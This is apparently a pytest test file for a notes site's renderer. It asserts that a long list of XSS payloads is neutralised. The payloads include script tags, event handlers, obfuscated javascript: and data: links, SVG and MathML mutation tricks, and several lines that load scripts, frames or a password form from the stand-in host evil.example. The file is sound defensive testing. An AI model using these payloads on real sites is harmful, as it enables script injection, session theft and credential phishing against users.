"""What a note must not do to whoever reads it."""

import pytest

from tests.conftest import MakeSite, ParseNote
from tests.markup.inspector import inspect, of_the_note
from tests.markup.shown import html

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)//",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onclick='alert(1)' style='background:url(//evil.example)'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java&#10;script:alert(1)>)",
    "[x](%6aavascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "![[javascript:alert(1)]]",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="wiki:javascript:alert(1)">x</a>',
    '<a href="tag:x&quot; onclick=&quot;alert(1)">x</a>',
    "<a href='wiki:x\" onclick=\"alert(1)'>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "[x](data:text/html,<script>alert(1)</script>)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.example'; * { display: none }</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0; url=//evil.example'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<object data=//evil.example><param name=x></object>",
    "<embed src=//evil.example>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><textarea><script>alert(1)</script></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<?php echo '<script>alert(1)</script>' ?>",
    '<h1 id="note">x</h1><a id="content" name="forms">x</a><form id="note"></form>',
    "<div id=note class='hit missing embed tier'>x</div>",
    "## note\n\n<span id=h-x>y</span>",
    "x</p></div></article></main><div><p>y",
    "<table><tr><td></table></article><script>alert(1)</script>",
    '[[x"><img src=x onerror=alert(1)>|y]]',
    '[[x|<img src=x onerror=alert(1)>]]',
    '![[x.png|" onerror="alert(1)]]',
    '![a" onerror="alert(1)](x.png)',
    '[a](<x" onmouseover="alert(1)>)',
    '[a](x "t" onmouseover="alert(1)")',
    '[x](#"onclick="alert(1))',
    '#tag"onclick="alert(1)',
    "`<img src=x onerror=alert(1)>`",
    '```"><script>alert(1)</script>\nx\n```',
    "```x\n</code></pre><script>alert(1)</script>\n```",
    "<a title='a>b<script>' href=x>q</a>",
    "<a href=x title='<img src=q onerror=alert(1)>'>x</a>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "<b><i></b><u></i><img src=x onerror=alert(1)></u>",
    "---\nk: '<script>alert(1)</script>'\nurl: javascript:alert(1)\nl: '[[javascript:alert(1)]]'\n---\n",
    "---\ntitle: '<script>alert(1)</script>'\n---\n",
    "---\naliases: ['<img src=x onerror=alert(1)>']\ntags: ['\"><b onclick=x>']\n---\n",
    "# <img src=x onerror=alert(1)>\n\ny",
    "---\nbroken: [<script>alert(1)</script>\n---\n<script>alert(1)</script>",
    b"\xff<script>alert(1)</script>".decode("latin-1"),
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<abbr title=x>x</abbr><abbr title='\"><script>alert(1)</script>'>y</abbr>",
    "> [!<img src=x onerror=alert(1)>] x",
    '> [!note" onclick="alert(1)] <script>alert(1)</script>',
    "> [!note]- <details ontoggle=alert(1) open>x",
    "> [!tip] a\n> </div></article><script>alert(1)</script>",
    "<div class='callout callout-x tier hit' role=alert>x</div>",
    "<details class='callout properties'><summary class='callout-title brand'>x</summary></details>",
    "- [<] <script>alert(1)</script>",
    "- [x] <input type=password name=password>",
    "<span class=task role=button aria-label='Log in' aria-checked=true tabindex=0>x</span>",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$",
    "$\\style{position:fixed;inset:0}{x} \\class{tier}{x} \\cssId{note}{x}$",
    "$$\n\\text{</math><img src=x onerror=alert(1)>}\n$$",
    "$\\frac<img src=x onerror=alert(1)>^$",
    "<math alttext='\"><script>alert(1)</script>'><mi>x</mi></math>",
    "<math><mspace width='1000em'/><mo minsize='1000em'>x</mo><mi mathvariant='x' style='color:red'>x</mi></math>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><mi><a href=javascript:alert(1)>x</a></mi></math>",
    "x^[<script>alert(1)</script>] y[^a]\n\n[^a]: </li></ol></div><script>alert(1)</script>",
    'x[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: y',
    "x\n: <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "```js linenos\n</code></pre><script>alert(1)</script>\n```",
    "```x' onclick='alert(1)\ny\n```",
    "> ```py\n> </code></pre></blockquote><script>alert(1)</script>\n> ```",
    "```dataviewjs\nalert(1)\n``` \n`$=alert(1)`",
    "<pre class='numbered top'><code class='language-x copy'><span class='line menu'>x</span></code></pre>",
    "---\ncssclasses: ['x\" onclick=\"alert(1)', '../x', 'tier hit']\n---\nx",
]  # fmt: skip


def names(attacks: list[str]) -> list[str]:
    return [f"{number:02} {attack[:40]!r}" for number, attack in enumerate(attacks)]


@pytest.mark.parametrize("attack", ATTACKS, ids=names(ATTACKS))
def test_nothing_in_a_note_can_act(attack: str, parse_note: ParseNote) -> None:
    page = parse_note(attack).page
    for parts in (page.parts, page.properties):
        # As weaving fills the holes of what is missing.
        kinds = [page.links[part].kind if isinstance(part, int) else "" for part in parts]
        pieces = [
            part if isinstance(part, str) else '<a class="missing">' if kind != "embed" else "<i></i>"
            for part, kind in zip(parts, kinds, strict=True)
        ]
        inspector = inspect("".join(pieces), note=True)
        assert (inspector.wrong, inspector.open) == ([], [])
        assert all(name.startswith(("h-", "fn:", "fnref:")) for name in inspector.ids)


def test_no_page_of_an_attack_can_act(site: MakeSite) -> None:
    files = {f"n{number:02}.md": attack for number, attack in enumerate(ATTACKS)}
    embeds = {f"e{number:02}.md": f"![[n{number:02}]]" for number in range(len(ATTACKS))}
    targets = {"x.md": "x", "x.png": b"png", "javascript:alert(1).md": "y", "q.md": "q"}
    reader = site({**files, **embeds, **targets}).reader("owner")
    usual = reader.get("/x").text
    for name in (*files, *embeds):
        answer = reader.get("/" + name.removesuffix(".md"))
        assert answer.status_code == 200
        note = inspect(of_the_note(answer.text), note=True)
        assert (name, note.wrong, note.open) == (name, [], [])
        assert (name, set(inspect(answer.text).wrong) - set(inspect(usual).wrong)) == (name, set())
        assert answer.text.count("<script") == usual.count("<script")


def test_embedded_part_of_a_note_is_balanced(site: MakeSite) -> None:
    files = {
        "evil.md": "<div><div><div><h2 id='h-x' data-top=''>x</h2></div></div></div>\n\nend",
        "victim.md": "![[evil#x]]\n\nmy text",
    }
    page = site(files, tiers={"unmarked": "public"}).reader().get("/victim").text
    inspector = inspect(of_the_note(page))
    assert (inspector.wrong, inspector.open) == ([], [])


def test_heading_of_a_note_can_not_name_a_part_of_the_page(parse_note: ParseNote) -> None:
    ids = inspect(html(parse_note("## note\n\n## content\n\n<h3 id=note>x</h3>\n\n<h3 id='h-note'>y</h3>"))).ids
    assert all(name.startswith("h-") for name in ids)
